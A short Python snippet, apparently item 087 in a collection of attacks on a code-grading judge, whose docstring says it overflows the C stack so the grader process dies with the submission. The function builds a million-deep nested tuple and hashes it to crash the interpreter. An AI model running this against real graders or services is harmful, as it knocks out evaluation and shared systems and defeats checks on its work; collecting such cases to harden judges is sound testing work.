"""087 exits: overflow the stack of C.

Evidence: judge - the grader dies with the student's code.
"""


def attack():
    sys.setrecursionlimit(10**9)
    value = ()
    for _ in range(1_000_000):
        value = (value,)
    return hash(value)
